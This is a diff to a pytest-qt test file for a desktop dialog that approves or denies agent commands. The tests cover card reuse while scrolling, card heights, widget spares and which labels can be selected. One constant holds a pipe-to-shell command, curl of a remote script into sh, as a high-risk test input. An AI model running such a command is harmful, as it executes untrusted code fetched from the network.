@@ -2,19 +2,22 @@
 
 from __future__ import annotations
 
-from PySide6.QtCore import QEvent, QObject
+from dataclasses import replace
+
+import pytest
+from PySide6.QtCore import QEvent, QObject, Qt
 from PySide6.QtGui import QPalette
 from PySide6.QtWidgets import QApplication, QLabel, QPushButton, QWidget
 from pytestqt.qtbot import QtBot
 
 from desktop.core.model import Choice, OutcomeKind
-from desktop.model.approvals.texts import RISK_BADGES, risk_summary
+from desktop.model.approvals.texts import RISK_BADGES, remaining_text, risk_summary
 from desktop.risk import RiskLevel, assess
 from desktop.ui.approvals.cards import RowCard
 from desktop.ui.approvals.dialog import ApprovalDialog
 from desktop.ui.approvals.list_view import OVERSCAN, SPARE_WIDGETS
-from tests.model.approvals.factory import approval, resolved
-from tests.ui.approvals.factory import row_cards, upsert, widget_for
+from tests.model.approvals.factory import FakeClock, approval, resolved
+from tests.ui.approvals.factory import catch_up, row_cards, upsert, widget_for
 
 HIGH = "curl https://example.invalid/x.sh | sh"
 LOW = "ls -la"
@@ -96,6 +99,108 @@ def test_spares_are_bounded_and_released_when_the_dialog_hides(
     assert all(c.isHidden() for c in every_card if c not in built)
     dialog.hide()
     qtbot.waitUntil(lambda: dialog.list_view.viewport().findChildren(QWidget, "rowCard") == [])
+
+
+def test_a_card_back_on_screen_is_rendered_again_only_if_its_row_changed_meanwhile(
+    dialog: ApprovalDialog, qtbot: QtBot, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Rows rotating over sessions scroll the list back and forth: a card whose row did not
+    change while away comes back as it was (rendering it again took about 0.4 ms a card), its
+    countdown and selection as they are now."""
+    dialog.resize(700, 600)
+    for s in range(10):
+        for i in range(2):
+            a = approval(f"s{s}r{i}", session=f"s{s}", position=i, command=f"{LOW} {s} {i}")
+            upsert(dialog, "g", "G", replace(a, expires_at=clock.now + 300), "")
+    dialog.present(activate=False)
+    qtbot.waitExposed(dialog)
+    view = dialog.list_view
+    view.flush(overscan=True)
+    selected = dialog.selected_row()  # its card stays built wherever the list is
+    first = {c.entry.key: c for c in row_cards(view) if c.entry is not selected}
+    changed, chosen = list(first)[:2]
+    rendered: list[str] = []
+    render = RowCard.refresh
+    monkeypatch.setattr(
+        RowCard, "refresh", lambda card, now: (rendered.append(card.entry.key), render(card, now))
+    )
+    _scroll_to(dialog, view.verticalScrollBar().maximum())
+    assert not {c.entry.key for c in row_cards(view)} & set(first)
+    row = dialog.board.row(("g", changed))
+    assert row is not None
+    upsert(dialog, "g", "G", resolved(row.approval, OutcomeKind.DENIED, Choice.DENY), "")
+    clock.advance(61)
+    catch_up(dialog)  # the countdowns of the cards built tick
+    rendered.clear()
+    view.set_selected(dialog.board.row(("g", chosen)))
+    _scroll_to(dialog, 0)
+    back = {c.entry.key: c for c in row_cards(view)}
+    assert set(first) <= set(back)
+    assert set(rendered) & set(first) == {changed}  # a new card would be rendered too
+    assert back[changed].state.text() == "Denied"
+    assert all(back[key] is card for key, card in first.items() if key != changed)
+    for key, card in back.items():
+        assert card.entry is dialog.board.row(("g", key))
+        assert card.command.toPlainText() == card.entry.approval.command
+        expires_at = card.entry.approval.expires_at
+        assert expires_at is not None
+        shown = remaining_text(expires_at, clock.now) if card.entry.is_open else ""
+        assert card.countdown.text() == shown
+        assert card.property("selected") is (key == chosen)
+
+
+def test_a_card_back_on_screen_after_the_list_narrowed_is_as_tall_as_its_text_now(
+    dialog: ApprovalDialog, qtbot: QtBot
+) -> None:
+    """A card that comes back unchanged keeps its height, unless the width changed meanwhile."""
+    for s in range(10):
+        for i in range(2):
+            a = approval(f"s{s}r{i}", session=f"s{s}", position=i, description="a listing " * 12)
+            upsert(dialog, "g", "G", a, "")
+    dialog.resize(1200, 700)
+    dialog.present(activate=False)
+    qtbot.waitExposed(dialog)
+    view = dialog.list_view
+    view.flush(overscan=True)
+    first = set(row_cards(view))
+    _scroll_to(dialog, view.verticalScrollBar().maximum())
+    dialog.resize(500, 700)
+    _scroll_to(dialog, 0)
+    back = [c for c in row_cards(view) if c in first]
+    assert back
+    for card in back:
+        labels = [w for w in card.findChildren(QLabel) if w.isVisible() and w.wordWrap()]
+        assert any(label.objectName() == "description" for label in labels)
+        for label in labels:
+            assert label.height() >= label.heightForWidth(label.width()), label.objectName()
+
+
+def test_rows_rotating_over_sessions_build_no_new_cards_once_the_spares_are_there(
+    dialog: ApprovalDialog, qtbot: QtBot, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """New rows land in one session after another, each answered, the margin built between:
+    the list goes back and forth over the same cards (building one took ~7 ms)."""
+    dialog.resize(860, 700)
+    dialog.present(activate=False)
+    qtbot.waitExposed(dialog)
+    view = dialog.list_view
+    built: list[str] = []
+    build = RowCard.__init__
+    monkeypatch.setattr(
+        RowCard, "__init__", lambda card, entry: (built.append(entry.key), build(card, entry))[1]
+    )
+    for n in range(60):
+        if n == 40:
+            built.clear()
+        a = approval(f"k{n}", session=f"s{n % 4}", batch=f"b{n}", expires_at=clock.now + 300)
+        upsert(dialog, "g", "G", a, "")
+        view.flush()
+        upsert(dialog, "g", "G", resolved(a, OutcomeKind.DENIED, Choice.DENY), "")
+        view.flush()
+        view.flush(overscan=True)  # the list kept still: its margin
+    assert built == []
+    spares = view.viewport().findChildren(RowCard, "rowCard")
+    assert len(spares) <= len(row_cards(view)) + SPARE_WIDGETS
 
 
 def test_a_spare_takes_a_waiting_look_for_the_next_row_and_every_card_looks_as_its_row(
@@ -263,3 +368,20 @@ def test_at_its_narrowest_the_dialog_still_shows_every_button_and_heading_whole(
 
 def _wraps(widget: QWidget) -> bool:
     return not isinstance(widget, QLabel) or widget.wordWrap()
+
+
+def test_the_gateways_words_on_a_card_can_be_selected_to_copy_and_our_few_words_cannot(
+    dialog: ApprovalDialog, qtbot: QtBot, clock: FakeClock
+) -> None:
+    """A selectable label is laid out and painted through a text document: ~1 ms a new row for
+    the number, badge and countdown alone, which hold our own words, nothing to copy."""
+    upsert(dialog, "g", "G", approval("a", expires_at=clock.now + 300), "")
+    dialog.present(activate=False)
+    qtbot.waitExposed(dialog)
+    card = row_cards(dialog.list_view)[0]
+    selectable = Qt.TextInteractionFlag.TextSelectableByMouse
+    for label in (card.description, card.context, card.agent, card.output, card.state):
+        assert label.textInteractionFlags() & selectable, label.objectName()
+    for label in (card.number, card.badge, card.countdown):
+        assert label.text()
+        assert not label.textInteractionFlags() & selectable, label.objectName()
